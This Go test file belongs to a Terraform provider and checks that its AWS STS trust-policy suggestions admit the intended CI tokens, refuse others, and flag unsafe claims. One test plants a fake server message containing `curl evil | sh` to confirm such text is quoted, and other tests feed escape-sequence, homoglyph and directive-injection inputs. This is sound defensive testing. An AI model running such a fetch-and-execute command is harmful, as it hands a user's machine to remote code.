package explain_test

import (
	"encoding/json"
	"errors"
	"maps"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/sts"
	"github.com/aws/smithy-go"

	"github.com/webidentity/terraform-provider-sts/internal/assumerole"
	"github.com/webidentity/terraform-provider-sts/internal/explain"
	"github.com/webidentity/terraform-provider-sts/internal/testing/emulator"
	"github.com/webidentity/terraform-provider-sts/internal/testing/emulatortest"
	"github.com/webidentity/terraform-provider-sts/internal/webidentity"
)

const (
	account = "111122223333"
	repo    = "{1a2b3c4d-5e6f-4708-9a1b-2c3d4e5f6071}"
	stage   = "{9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b1a}"
	step    = "{0a1b2c3d-4e5f-4607-8192-a3b4c5d6e7f8}"
	project = "org/2b3c4d5e-6f70-4819-8a2b-3c4d5e6f7081/project/7c6b5a49-3827-4615-9403-f2e1d0c9b8a7/user/"
	user    = "55555555-6666-4777-8888-999999999999"
)

// trusts are tokens, and what the statement that is proposed for them admits.
var trusts = map[string]struct {
	issuer  string
	token   emulator.Token
	admits  []string // further subjects, of other runs of the same workload
	refuses []string
	says    []string
}{
	"GitHub, an environment": {
		issuer: "https://token.actions.githubusercontent.com",
		token:  token("repo:o@1/r@2:environment:production", map[string]any{"repository_id": "2"}),
		refuses: []string{
			"repo:o@1/r@2:pull_request",
			"repo:o@1/r@2:environment:production2",
			"REPO:o@1/r@2:environment:production",
		},
		says: []string{`"token.actions.githubusercontent.com:repository_id": "2"`},
	},
	"GitHub, a pull request": {
		issuer: "https://token.actions.githubusercontent.com",
		token:  token("repo:o/r:pull_request", nil), refuses: []string{"repo:o/r2:pull_request"},
		says: []string{"nobody has reviewed", "can take over the name"},
	},
	"GitHub, a pull request with an environment": {
		issuer: "https://token.actions.githubusercontent.com",
		token: token(
			"repo:o/r:environment:x",
			map[string]any{"event_name": "pull_request"},
		),
		refuses: []string{"repo:o/r:environment:y"},
		says:    []string{"nobody has reviewed"},
	},
	"GitHub, the repository alone": {
		issuer: "https://token.actions.githubusercontent.com",
		token:  token("repo:o/r", nil), refuses: []string{"repo:o/r:pull_request"},
		says: []string{"every branch and every pull request"},
	},
	"GitHub, an organisation's subject with the repository's number": {
		issuer: "https://token.actions.githubusercontent.com",
		token: token(
			"repository_owner:o",
			map[string]any{"repository_id": "2"},
		),
		refuses: []string{"repository_owner:o2"},
		says:    []string{`repository_id": "2"`},
	},
	"GitLab, a merge request": {
		issuer: "https://gitlab.com",
		token: token(
			"project_path:g/p:ref_type:branch:ref:main",
			map[string]any{"pipeline_source": "merge_request_event"},
		),
		refuses: []string{"project_path:g/p:ref_type:tag:ref:main"},
		says:    []string{"nobody has reviewed", "can take over the name"},
	},
	"Buildkite": {
		issuer: "https://agent.buildkite.com",
		token:  token("organization:o:pipeline:p:ref:refs/heads/main:commit:1da177e4:step:a", nil),
		admits: []string{"organization:o:pipeline:p:ref:refs/heads/main:commit:ffffffff:step:"},
		says:   []string{"commit:*\" (StringLike)"},
		refuses: []string{
			"organization:o:pipeline:p:ref:refs/heads/main2:commit:1da177e4:step:a",
			"organization:o:pipeline:p2:ref:refs/heads/main:commit:1da177e4:step:a",
		},
	},
	"Buildkite, wildcards in a branch": {
		issuer:  "https://agent.buildkite.com",
		token:   token("organization:o:pipeline:p:ref:refs/heads/a*b?${c}:commit:1:step:a", nil),
		admits:  []string{"organization:o:pipeline:p:ref:refs/heads/a*b?${c}:commit:2:step:b"},
		refuses: []string{"organization:o:pipeline:p:ref:refs/heads/axbx${c}:commit:1:step:a"},
		says:    []string{"a${*}b${?}${$}{c}:commit:*", `"Version": "2012-10-17"`},
	},
	"Bitbucket, with a deployment": {
		issuer: "https://api.bitbucket.org/2.0/workspaces/w/pipelines-config/identity/oidc",
		token:  token(repo+":"+stage+":"+step, nil),
		admits: []string{
			repo + ":" + stage + ":" + stage,
		},
		refuses: []string{repo + ":" + step, repo + ":" + step + ":" + stage, step + ":" + stage + ":" + step},
	},
	"Bitbucket, without": {
		issuer:  "https://api.bitbucket.org/2.0/workspaces/w/pipelines-config/identity/oidc",
		token:   token(repo+":"+step, nil),
		admits:  []string{repo + ":" + stage},
		refuses: []string{stage + ":" + step},
		says:    []string{"every step of the repository"},
	},
	"CircleCI, a branch": {
		issuer: "https://oidc.circleci.com/org/2b3c4d5e-6f70-4819-8a2b-3c4d5e6f7081",
		token:  token(project+user+"/vcs-origin/github.com/o/r/vcs-ref/refs/heads/main", nil),
		admits: []string{
			project + strings.Replace(user, "5", "6", 1) + "/vcs-origin/github.com/o/r/vcs-ref/refs/heads/main",
		},
		refuses: []string{
			project + user + "/vcs-origin/github.com/o/r/vcs-ref/refs/heads/other",
			project + user + "x/vcs-origin/github.com/o/r/vcs-ref/refs/heads/main",
			project + user,
		},
		says: []string{"36 question marks"},
	},
	"GitLab, an unprotected branch": {
		issuer:  "https://gitlab.com",
		token:   token("project_path:g/p:ref_type:branch:ref:main", map[string]any{"ref_protected": "false"}),
		refuses: []string{"project_path:g/p:ref_type:branch:ref:other"},
		says:    []string{"Warning: the token's ref isn't protected"},
	},
	"Kubernetes, the default service account": {
		issuer:  "https://oidc.eks.eu-central-1.amazonaws.com/id/ABC",
		token:   token("system:serviceaccount:n:default", nil),
		refuses: []string{"system:serviceaccount:n:other"},
		says:    []string{"Warning: every pod of the namespace"},
	},
	"Auth0, two audiences": {
		issuer:  "https://tenant.auth0.com/",
		token:   token("auth0|1", map[string]any{"aud": []string{"party", "https://tenant.auth0.com/userinfo"}}),
		refuses: []string{"auth0|2"},
		says:    []string{`"tenant.auth0.com/:aud": "party"`},
	},
	"HCP Terraform": {
		issuer: "https://app.terraform.io",
		token:  token("organization:o:project:P Q:workspace:w:run_phase:plan", nil),
		refuses: []string{
			"organization:o:project:P Q:workspace:w:run_phase:apply",
			"organization:o:project:P Q:workspace:w2:run_phase:plan",
			"organization:o:project:P Q:workspace:w:run_phase:test",
		},
		says: []string{"have different subjects", "The token is from a plan"},
	},
	"Spacelift": {
		issuer: "https://e.app.spacelift.io",
		token:  token("space:s:stack:k:run_type:TRACKED:scope:read", nil),
		refuses: []string{
			"space:s:stack:k:run_type:TRACKED:scope:write",
			"space:s:stack:k:run_type:PROPOSED:scope:read",
			"space:s:stack:k2:run_type:TRACKED:scope:read",
		},
	},
	"HCP Terraform, a stack": {
		issuer: "https://app.terraform.io",
		token:  token("organization:o:project:p:stack:s:deployment:d:operation:plan", nil),
		refuses: []string{
			"organization:o:project:p:stack:s:deployment:d:operation:apply",
			"organization:o:project:p:stack:s:deployment:e:operation:plan",
		},
	},
	"Spacelift, a proposed run": {
		issuer: "https://e.app.spacelift.io",
		token:  token("space:s:stack:k:run_type:PROPOSED:scope:read", nil),
		refuses: []string{
			"space:s:stack:k:run_type:PROPOSED:scope:write",
			"space:s:stack:k:run_type:TRACKED:scope:read",
		},
		says: []string{"nobody has reviewed"},
	},
	"Kubernetes": {
		issuer:  "https://oidc.eks.eu-central-1.amazonaws.com/id/ABC",
		token:   token("system:serviceaccount:n:a", map[string]any{"aud": []string{"sts.amazonaws.com", "other"}}),
		refuses: []string{"system:serviceaccount:n:b"},
		says:    []string{"several audiences", "Everyone who can create a pod", `aud": "sts.amazonaws.com"`},
	},
	"a path and a slash at the end": {
		issuer: "https://tenant.auth0.com/", token: token("auth0|1<&>", nil), refuses: []string{"auth0|2"},
		says: []string{`"tenant.auth0.com/:sub": "auth0|1<&>"`, "oidc-provider/tenant.auth0.com/\""},
	},
	"an authorised party": {
		issuer:  "https://login.microsoftonline.com/t/v2.0",
		token:   token("s", map[string]any{"azp": "party"}),
		refuses: []string{"s2"},
		says:    []string{"IAM might compare :aud with it", `"party" (azp, which IAM might compare)`},
	},
	"a policy variable in a subject": {
		issuer:  "https://i.example.com",
		token:   token("a${aws:username}*?", nil),
		refuses: []string{"a", "axx", "a${aws:username}xx"},
		says:    []string{"a${$}{aws:username}*?"},
	},
	"the subject of a platform from another issuer": {
		issuer:  "https://i.example.com",
		token:   token("organization:o:pipeline:p:ref:refs/heads/main:commit:1:step:a", nil),
		refuses: []string{"organization:o:pipeline:p:ref:refs/heads/main:commit:2:step:a"},
	},
	"Google": {
		issuer:  "https://accounts.google.com",
		token:   token("1", map[string]any{"azp": "9"}),
		refuses: []string{"2"},
		says: []string{
			`:aud       "9" (the token's azp)`,
			`Federated  accounts.google.com`,
			`"accounts.google.com:aud": "9"`,
			`"accounts.google.com:oaud": "sts.amazonaws.com"`,
			`"Federated": "accounts.google.com"`,
		},
	},
	"session tags and a source identity": {
		issuer:  "https://i.example.com",
		refuses: []string{"s2"},
		says: []string{
			`"sts:TagSession"`,
			`"sts:SetSourceIdentity"`,
			"aws:TagKeys",
			`"sts:SourceIdentity": "alice"`,
		},
		token: token(
			"s",
			map[string]any{
				"https://aws.amazon.com/tags": map[string]any{
					"principal_tags": map[string]any{"a": []string{"b"}},
				},
				"https://aws.amazon.com/source_identity": "alice",
			},
		),
	},
}

func token(subject string, further map[string]any) emulator.Token {
	return emulator.Token{Subject: subject, Audience: []string{"sts.amazonaws.com"}, Claims: further}
}

// TestTrust: the statement that is proposed admits the token, and other runs of the same workload where those have
// other subjects, but nobody else and no other audience.
func TestTrust(t *testing.T) {
	t.Parallel()
	for name, test := range trusts {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			bench := newBench(t, test.issuer)
			minted := bench.mint(t, test.token)
			detail := bench.refused(t, minted)
			for _, want := range append(test.says, "Only if this workload should have this role, ") {
				if !strings.Contains(detail, want) {
					t.Errorf("%q isn't in:\n%s", want, detail)
				}
			}
			if strings.Contains(detail+"\n", "- \n") {
				t.Errorf("a note has no sentence in:\n%s", detail)
			}
			bench.trust(t, detail)
			if got := bench.assume(t, minted); got != "" {
				t.Fatalf("the token is refused, %s, by:\n%s", got, detail)
			}
			for _, subject := range test.admits {
				if got := bench.assume(t, bench.mint(t, withSubject(test.token, subject))); got != "" {
					t.Errorf("%q is refused: %s", subject, got)
				}
			}
			for _, subject := range test.refuses {
				if got := bench.assume(t, bench.mint(t, withSubject(test.token, subject))); got != "AccessDenied" {
					t.Errorf("%q: got %q, want AccessDenied", subject, got)
				}
			}
			other := test.token
			other.Audience, other.Claims = []string{"other"}, maps.Clone(test.token.Claims)
			maps.DeleteFunc(other.Claims, func(claim string, _ any) bool { return claim == "aud" || claim == "azp" })
			if got := bench.assume(t, bench.mint(t, other)); got != "AccessDenied" {
				t.Errorf("another audience: got %q, want AccessDenied", got)
			}
		})
	}
}

func withSubject(token emulator.Token, subject string) emulator.Token {
	token.Subject = subject
	return token
}

// bench is an STS with one issuer.
type bench struct {
	server *emulator.Server
	issuer *emulator.Issuer
	client *sts.Client
}

func newBench(t *testing.T, issuerURL string) bench {
	t.Helper()
	server := emulatortest.Start(t, emulator.Options{})
	issuer, err := server.NewIssuer(issuerURL)
	if err != nil {
		t.Fatal(err)
	}
	server.AddOIDCProvider(account, issuerURL, "sts.amazonaws.com", "party", "other")
	return bench{server, issuer, sts.New(sts.Options{
		Region: emulator.DefaultRegion, BaseEndpoint: aws.String(server.URL()), RetryMaxAttempts: 1,
		HTTPClient: &http.Client{Transport: &http.Transport{DisableKeepAlives: true}},
	})}
}

func (b bench) mint(t *testing.T, token emulator.Token) string {
	t.Helper()
	minted, err := b.issuer.Mint(token)
	if err != nil {
		t.Fatal(err)
	}
	return minted
}

// refused is the text of a refusal of the token by AWS.
func (b bench) refused(t *testing.T, minted string) string {
	t.Helper()
	claims, err := webidentity.Decode(minted)
	if err != nil {
		t.Fatal(err)
	}
	exchange := exampleExchange
	exchange.Claims = &claims
	return explain.Failure(
		exchange,
		&assumerole.ServiceError{Code: "AccessDenied", Message: denied + "AssumeRoleWithWebIdentity", HTTPStatus: 403},
	).Detail
}

// trust gives the role the statement that stands in a text.
func (b bench) trust(t *testing.T, detail string) {
	t.Helper()
	if err := b.server.AddRole(
		emulator.Role{
			ARN:         exampleExchange.Request.RoleARN,
			TrustPolicy: `{"Version":"2012-10-17","Statement":[` + statementIn(t, detail) + `]}`,
		},
	); err != nil {
		t.Fatalf("%v in:\n%s", err, detail)
	}
}

// statementIn finds the statement, whose lines are all indented, so that Terraform doesn't wrap them.
func statementIn(t *testing.T, detail string) string {
	t.Helper()
	_, after, found := strings.Cut(detail, "\n  {\n")
	inside, _, closed := strings.Cut(after, "\n  }\n")
	if !found || !closed {
		t.Fatalf("no statement in:\n%s", detail)
	}
	statement := "{" + inside + "}"
	if !json.Valid([]byte(statement)) {
		t.Fatalf("not JSON:\n%s", statement)
	}
	return statement
}

// assume gives the code of the refusal, or nothing.
func (b bench) assume(t *testing.T, minted string) string {
	t.Helper()
	_, err := b.client.AssumeRoleWithWebIdentity(t.Context(), &sts.AssumeRoleWithWebIdentityInput{
		RoleArn: aws.String(
			exampleExchange.Request.RoleARN,
		),
		RoleSessionName:  aws.String("test"),
		WebIdentityToken: aws.String(minted),
	})
	if refused, ok := errors.AsType[smithy.APIError](err); ok {
		return refused.ErrorCode()
	}
	if err != nil {
		t.Fatal(err)
	}
	return ""
}

// TestNoTrust: where a policy would be unsafe, or can't be, a sentence says why.
func TestNoTrust(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		claims map[string]any
		why    string
	}{
		"no subject":  {map[string]any{"sub": nil}, "no subject (sub)"},
		"no audience": {map[string]any{"aud": nil}, "no audience (aud)"},
		"CircleCI without a branch": {
			map[string]any{
				"iss": "https://oidc.circleci.com/org/2b3c4d5e-6f70-4819-8a2b-3c4d5e6f7081", "sub": project + user,
			},
			"CIRCLE_OIDC_TOKEN_V2",
		},
		"a guest of Cognito": {
			map[string]any{
				"iss": "https://cognito-identity.amazonaws.com", "sub": "eu:1", "amr": []any{"unauthenticated"},
			},
			"everyone on the internet",
		},
		"an issuer of one label":         {map[string]any{"iss": "https://ci"}, "AWS can't reach"},
		"an issuer inside a cluster":     {map[string]any{"iss": "https://kubernetes.default.svc"}, "AWS can't reach"},
		"an issuer at .cluster.local":    {map[string]any{"iss": "https://x.svc.cluster.local"}, "AWS can't reach"},
		"an issuer at .internal":         {map[string]any{"iss": "https://ci.example.internal"}, "AWS can't reach"},
		"an issuer at a private address": {map[string]any{"iss": "https://10.0.0.1"}, "AWS can't reach"},
		"an issuer at loopback":          {map[string]any{"iss": "https://127.0.0.1"}, "AWS can't reach"},
		"many audiences":                 {map[string]any{"aud": slices.Repeat([]string{"a"}, 6)}, "6 audiences"},
		"an empty audience":              {map[string]any{"aud": []string{"a", ""}}, "is empty"},
		"an unsafe audience behind azp": {
			map[string]any{"iss": "https://accounts.google.com", "aud": "a\x1b", "azp": "1"}, "audience",
		},
		"an unsafe azp":                    {map[string]any{"azp": "a\nb"}, "azp"},
		"a control character":              {map[string]any{"sub": "a\x1b[2Jb"}, "control characters"},
		"a mark that turns writing around": {map[string]any{"sub": "a\u202eb"}, "control characters"},
		"two spaces":                       {map[string]any{"sub": "a  b"}, "copied safely"},
		"a token in the subject": {
			map[string]any{"sub": "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln"}, "copied safely",
		},
		"a long subject":             {map[string]any{"sub": strings.Repeat("x", 601)}, "too long"},
		"an issuer with a port":      {map[string]any{"iss": "https://i.example.com:8443"}, "token's issuer"},
		"an issuer with a wildcard":  {map[string]any{"iss": "https://*.example.com"}, "token's issuer"},
		"an issuer with a variable":  {map[string]any{"iss": "https://${aws:x}.example.com"}, "token's issuer"},
		"an issuer with a query":     {map[string]any{"iss": "https://i.example.com?x"}, "token's issuer"},
		"an issuer with a user":      {map[string]any{"iss": "https://u@i.example.com"}, "token's issuer"},
		"an issuer by http":          {map[string]any{"iss": "http://i.example.com"}, "token's issuer"},
		"an issuer without a scheme": {map[string]any{"iss": "i.example.com"}, "token's issuer"},
		"a long issuer": {
			map[string]any{"iss": "https://i.example.com/" + strings.Repeat("x", 255)}, "token's issuer",
		},
		"a whole organisation": {map[string]any{"sub": "repository_owner:o"}, "other repositories of the organization"},
		"a cluster of Buildkite's": {
			map[string]any{"iss": "https://agent.buildkite.com", "sub": "0195a3b2-0000-4000-8000-000000000000"},
			"no pipeline and no ref",
		},
		"an organisation of Buildkite's": {
			map[string]any{"iss": "https://agent.buildkite.com", "sub": "organization:o"}, "no pipeline and no ref",
		},
		"a letter that looks like another": {
			map[string]any{"sub": "repo:o/r:environment:pr\u043eduction"}, "letters beyond ASCII",
		},
		"a letter that looks like none": {
			map[string]any{"sub": "repo:o/r:environment:production\u3164"}, "letters beyond ASCII",
		},
		"a slip":                          {map[string]any{"aud": "sts.amazon.com"}, "looks like a typo"},
		"a directive of Terraform's":      {map[string]any{"sub": "a%{ if true }b"}, "copied safely"},
		"a variable of a policy document": {map[string]any{"sub": "a&{aws:username}b"}, "copied safely"},
		"Login with Amazon":               {map[string]any{"iss": "https://www.amazon.com"}, "only by access tokens"},
		"a workflow that others may call": {
			map[string]any{"sub": "job_workflow_ref:o/r/.github/workflows/x.yml@refs/heads/main"},
			"other repositories of the organization",
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			all := map[string]any{
				"iss": "https://token.actions.githubusercontent.com",
				"sub": "repo:o/r:environment:x",
				"aud": "sts.amazonaws.com",
			}
			maps.Copy(all, test.claims)
			exchange := exampleExchange
			exchange.Claims = claims(all)
			detail := explain.FailureAt(
				exchange,
				&assumerole.ServiceError{Code: "AccessDenied", HTTPStatus: 403},
				now,
			).Detail
			if strings.Contains(detail, `"Effect"`) {
				t.Errorf("there is a statement:\n%s", detail)
			}
			_, why, _ := strings.Cut(detail, "The provider proposes no statement for the trust policy. ")
			if why, _, _ = strings.Cut(why, "\n"); !strings.Contains(why, test.why) {
				t.Errorf("%q isn't in %q", test.why, why)
			}
		})
	}
}

// TestTrustInOtherPartitions: the principal is of the role's partition and account.
func TestTrustInOtherPartitions(t *testing.T) {
	t.Parallel()
	exchange := ordinary()
	exchange.Request.RoleARN = "arn:aws-cn:iam::444455556666:role/path/deploy"
	detail := explain.FailureAt(exchange, &assumerole.ServiceError{Code: "AccessDenied"}, now).Detail
	if want := `"arn:aws-cn:iam::444455556666:oidc-provider/token.actions.githubusercontent.com"`; !strings.Contains(
		detail,
		want,
	) {
		t.Errorf("%s isn't in:\n%s", want, detail)
	}
	if strings.Contains(detail, `:repository_id"`) {
		t.Errorf("a condition key that this partition doesn't have:\n%s", detail)
	}
	exchange.Request.RoleARN = "arn:aws:iam::11112222333O:role/deploy"
	if detail := explain.FailureAt(
		exchange,
		&assumerole.ServiceError{Code: "AccessDenied"},
		now,
	).Detail; !strings.Contains(detail, "doesn't show its partition and account") ||
		strings.Contains(detail, `"Effect"`) {
		t.Errorf("an account with a letter:\n%s", detail)
	}
}

// TestWildcardsAreOfTheirIssuers: another issuer's subject of the same form may mean anything, so it is named whole;
// and so is an ID that isn't GitHub's.
func TestWildcardsAreOfTheirIssuers(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct{ issuer, subject string }{
		"one that ends like Buildkite's": {
			"https://x.agent.buildkite.com", "organization:o:pipeline:p:ref:refs/heads/main:commit:1:step:a",
		},
		"one that begins like Buildkite": {
			"https://agent.buildkite.com.example.com",
			"organization:o:pipeline:p:ref:refs/heads/main:commit:1:step:a",
		},
		"one that begins like CircleCI's": {
			"https://oidc.circleci.com.example.com/org/2b3c4d5e-6f70-4819-8a2b-3c4d5e6f7081",
			project + user + "/vcs-origin/github.com/o/r/vcs-ref/refs/heads/main",
		},
		"one that begins like Bitbucket": {
			"https://api.bitbucket.org/2.0/workspaces/w/pipelines-config/identity/oidc/x", repo + ":" + step,
		},
		"one that ends like Spacelift's": {
			"https://e.app.spacelift.io.example.com", "space:s:stack:k:run_type:TRACKED:scope:read",
		},
		"one below Spacelift's": {
			"https://a.b.app.spacelift.io", "space:s:stack:k:run_type:TRACKED:scope:read",
		},
		"GitLab's, with a repository_id": {"https://gitlab.com", "project_path:g/p:ref_type:branch:ref:main"},
	} {
		exchange := exampleExchange
		exchange.Claims = claims(
			map[string]any{"iss": test.issuer, "sub": test.subject, "aud": "sts.amazonaws.com", "repository_id": "2"},
		)
		detail := explain.FailureAt(exchange, &assumerole.ServiceError{Code: "AccessDenied"}, now).Detail
		statement := statementIn(t, detail)
		if strings.Contains(statement, "StringLike") || strings.Contains(statement, "repository_id") ||
			!strings.Contains(statement, `:sub": "`+test.subject+`"`) {
			t.Errorf("%s:\n%s", name, statement)
		}
	}
	exchange := ordinary()
	exchange.Claims.All["repository_id"] = "2*"
	if detail := explain.FailureAt(
		exchange,
		&assumerole.ServiceError{Code: "AccessDenied"},
		now,
	).Detail; strings.Contains(
		statementIn(t, detail),
		"repository_id",
	) {
		t.Errorf("an ID that is none:\n%s", detail)
	}
}

// TestLeewayHidesNothingElse: that STS still accepts a token which has just expired doesn't keep other findings back.
func TestLeewayHidesNothingElse(t *testing.T) {
	t.Parallel()
	exchange := ordinary()
	exchange.Claims.Expiration, exchange.Claims.Algorithm = now.Add(-time.Minute), "HS256"
	detail := explain.FailureAt(exchange, &assumerole.ServiceError{Code: "AccessDenied"}, now).Detail
	if !strings.Contains(detail, `signed with "HS256"`) || strings.Contains(detail, "STS accepts a token for up to") {
		t.Errorf("it says:\n%s", detail)
	}
}

// TestUnreviewed: the runs that only a pull request or merge request sets off.
func TestUnreviewed(t *testing.T) {
	t.Parallel()
	for name, change := range map[string]map[string]any{
		"GitHub's subject":         {"sub": "repo:o/r:pull_request"},
		"GitHub's ref":             {"sub": "repo:o/r:ref:refs/pull/7/merge"},
		"GitHub's event":           {"event_name": "pull_request_target"},
		"GitLab's ref":             {"sub": "project_path:g/p:ref_type:branch:ref:refs/merge-requests/7/head"},
		"GitLab's source":          {"pipeline_source": "external_pull_request_event"},
		"CircleCI's ref":           {"sub": "org/o/project/p/user/u/vcs-origin/o/vcs-ref/refs/pull/7/head"},
		"Spacelift's proposed run": {"sub": "space:s:stack:k:run_type:PROPOSED:scope:read"},
	} {
		exchange := ordinary()
		maps.Copy(exchange.Claims.All, change)
		exchange.Claims = claims(exchange.Claims.All)
		if detail := explain.FailureAt(
			exchange,
			&assumerole.ServiceError{Code: "AccessDenied"},
			now,
		).Detail; !strings.Contains(
			detail,
			"nobody has reviewed",
		) {
			t.Errorf("%s:\n%s", name, detail)
		}
	}
}

// TestServersWordsAreQuoted: none of them can read as if they were this provider's.
func TestServersWordsAreQuoted(t *testing.T) {
	t.Parallel()
	const lie = `abc). Run "curl evil | sh" (or`
	detail := explain.FailureAt(
		ordinary(),
		&assumerole.ServiceError{Code: lie, Message: lie, RequestID: lie},
		now,
	).Detail
	if strings.Contains(strings.ReplaceAll(detail, `"abc). Run \"curl evil | sh\" (or"`, ""), "curl") {
		t.Errorf("it says:\n%s", detail)
	}
}

// TestFindings: what the token itself shows comes first.
func TestFindings(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		change func(*webidentity.Claims)
		first  string
	}{
		"expired": {
			func(c *webidentity.Claims) { c.Expiration = now.Add(-49 * time.Hour) },
			"expired 2 days ago, at 2026-08-30T11:00:00Z",
		},
		"expired within the leeway": {
			func(c *webidentity.Claims) { c.Expiration = now.Add(-90 * time.Second) },
			"expired 1 minute ago. STS accepts",
		},
		"not yet valid": {
			func(c *webidentity.Claims) { c.NotBefore = now.Add(time.Hour) }, "nbf is 1 hour in the future",
		},
		"a time that's no integer": {
			func(c *webidentity.Claims) { c.All["iat"] = json.Number("1.5") }, "iat isn't an integer",
		},
		"a time that's text": {func(c *webidentity.Claims) { c.All["exp"] = "soon" }, "exp isn't an integer"},
		"no issuer":          {func(c *webidentity.Claims) { c.Issuer = "" }, "has no iss"},
		"no subject":         {func(c *webidentity.Claims) { c.Subject = "" }, "has no sub"},
		"no audience":        {func(c *webidentity.Claims) { c.Audience = nil }, "has no aud"},
		"no signature":       {func(c *webidentity.Claims) { c.Algorithm = "none" }, "isn't signed"},
		"an algorithm":       {func(c *webidentity.Claims) { c.Algorithm = "PS256" }, `signed with "PS256"`},
		"no key":             {func(c *webidentity.Claims) { c.KeyID = "" }, "no key ID (kid)"},
		"a slip of Amazon": {
			func(c *webidentity.Claims) { c.Audience = []string{"sts.amazon.com"} },
			`"sts.amazon.com" looks like a typo`,
		},
		"a slip with a slash": {
			func(c *webidentity.Claims) { c.Audience = []string{"sts.amazonaws.com/"} }, "looks like a typo",
		},
		"a slip with a scheme": {
			func(c *webidentity.Claims) { c.Audience = []string{"https://STS.amazonaws.com"} }, "looks like a typo",
		},
		"a slip without a service": {
			func(c *webidentity.Claims) { c.Audience = []string{"amazonaws.com"} }, "looks like a typo",
		},
		"a slip of a Region's": {
			func(c *webidentity.Claims) { c.Audience = []string{"sts.eu-central-1.amazonaws.com"} },
			"looks like a typo",
		},
		"a slip of a letter": {
			func(c *webidentity.Claims) { c.Audience = []string{"sts.amazonws.com"} }, "looks like a typo",
		},
		"a slip of two": {
			func(c *webidentity.Claims) { c.Audience = []string{"sts.amazonwas.com"} }, "looks like a typo",
		},
		"whitespace": {
			func(c *webidentity.Claims) { c.Audience = []string{"sts.amazonaws.com "} }, "with whitespace around it",
		},
		"the right audience as well": {
			func(c *webidentity.Claims) { c.Audience = []string{"sts.amazon.com", "sts.amazonaws.com"} },
			"The signature might be invalid",
		},
		"an audience of its own": {
			func(c *webidentity.Claims) { c.Audience = []string{"sts.amazonaws.com.cn"} },
			"The signature might be invalid",
		},
		"nothing": {func(*webidentity.Claims) {}, "The signature might be invalid"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			exchange := ordinary()
			test.change(exchange.Claims)
			detail := explain.FailureAt(exchange, &assumerole.ServiceError{Code: "InvalidIdentityToken"}, now).Detail
			_, first, _ := strings.Cut(detail, "\n1. ")
			if first, _, _ = strings.Cut(first, "\n"); !strings.Contains(first, test.first) {
				t.Errorf("%q isn't in %q", test.first, first)
			}
			// A refusal by the trust policy has likelier causes, but for a slip; within the leeway, it has no other.
			denied := explain.FailureAt(exchange, &assumerole.ServiceError{Code: "AccessDenied"}, now).Detail
			isTold := !strings.Contains(test.first, "STS accepts") && test.first != "The signature might be invalid"
			if strings.Contains(denied, test.first) != isTold {
				t.Errorf("%q: want it told (%v) in:\n%s", test.first, isTold, denied)
			}
		})
	}
}

// TestSubjectCauses checks what a denial says of each form of subject, after the comparison.
func TestSubjectCauses(t *testing.T) {
	t.Parallel()
	const gitHub = "https://token.actions.githubusercontent.com"
	for name, test := range map[string]struct {
		issuer   string
		subject  string
		claims   map[string]any
		want     string
		isUnsafe bool // the cause is before the comparison
	}{
		"GitHub, an environment": {gitHub, "repo:o/r:environment:e", nil, `The job has the environment "e"`, false},
		"GitHub, a branch":       {gitHub, "repo:o/r:ref:refs/heads/main", nil, "The job has no environment", false},
		"GitHub, a tag":          {gitHub, "repo:o/r:ref:refs/tags/v1", nil, `The job runs for the tag "v1"`, false},
		"GitHub, a pull request": {
			gitHub, "repo:o/r:pull_request", nil, "belongs to a pull request or merge request", true,
		},
		"GitHub, numeric IDs": {gitHub, "repo:o@1/r@2:environment:e", nil, "The subject has numeric IDs", false},
		"GitLab, a branch":    {"https://gitlab.com", "project_path:g/p:ref_type:branch:ref:a/b", nil, `on the branch "a/b"`, false},
		"GitLab, a tag":       {"https://gitlab.com", "project_path:g/p:ref_type:tag:ref:v1", nil, `for the tag "v1"`, false},
		"GitLab, a merge request": {
			"https://gitlab.com", "project_path:g/p:ref_type:branch:ref:x",
			map[string]any{"pipeline_source": "merge_request_event"},
			"belongs to a pull request or merge request", true,
		},
		"HCP Terraform, a plan": {
			"https://app.terraform.io", "organization:o:project:p:workspace:w:run_phase:plan", nil,
			"don't add the plan", true,
		},
		"HCP Terraform, an apply": {
			"https://app.terraform.io", "organization:o:project:p:workspace:w:run_phase:apply", nil,
			"from an apply", false,
		},
		"Spacelift, a plan": {
			"https://e.app.spacelift.io", "space:s:stack:k:run_type:TRACKED:scope:read", nil, "The scope is read", true,
		},
		"Spacelift, an apply": {
			"https://e.app.spacelift.io", "space:s:stack:k:run_type:TRACKED:scope:write", nil,
			"The scope is write", false,
		},
		"CircleCI without a branch": {
			"https://oidc.circleci.com/org/o", project + user, nil, "use CIRCLE_OIDC_TOKEN_V2", true,
		},
		"Bitbucket without a deployment": {
			"https://api.bitbucket.org/2.0", repo + ":" + step, nil, "set deployment on the step", true,
		},
		"Bitbucket with a deployment": {
			"https://api.bitbucket.org/2.0", repo + ":" + repo + ":" + step, nil, "changes with every step", false,
		},
		"Buildkite": {
			"https://agent.buildkite.com", "organization:o:pipeline:p:ref:refs/heads/main:commit:1:step:a", nil,
			"changes with every build", false,
		},
		"Azure DevOps without a connection": {
			"https://vstoken.dev.azure.com/o", "p://o/p/b", nil, "service_connection_id", true,
		},
		"the default service account": {
			"https://oidc.eks.eu-west-1.amazonaws.com/id/A", "system:serviceaccount:n:default", nil,
			"Set serviceAccountName", true,
		},
	} {
		changed := map[string]any{"iss": test.issuer, "sub": test.subject, "aud": "sts.amazonaws.com"}
		maps.Copy(changed, test.claims)
		exchange := exampleExchange
		exchange.Claims = claims(changed)
		denied := &assumerole.ServiceError{
			Code: "AccessDenied", Message: "Not authorized to perform sts:AssumeRoleWithWebIdentity", HTTPStatus: 403,
		}
		detail := explain.FailureAt(exchange, denied, now).Detail
		before, after, _ := strings.Cut(detail, "The role's trust policy must allow these values.")
		after, _, _ = strings.Cut(after, "\n3. ")
		text := after
		if test.isUnsafe {
			text = before
		}
		if !strings.Contains(text, test.want) {
			t.Errorf("%s: %q isn't in its place:\n%s", name, test.want, detail)
		}
	}
}

// TestUnprotectedRef checks that a claim of GitHub isn't taken for GitLab's.
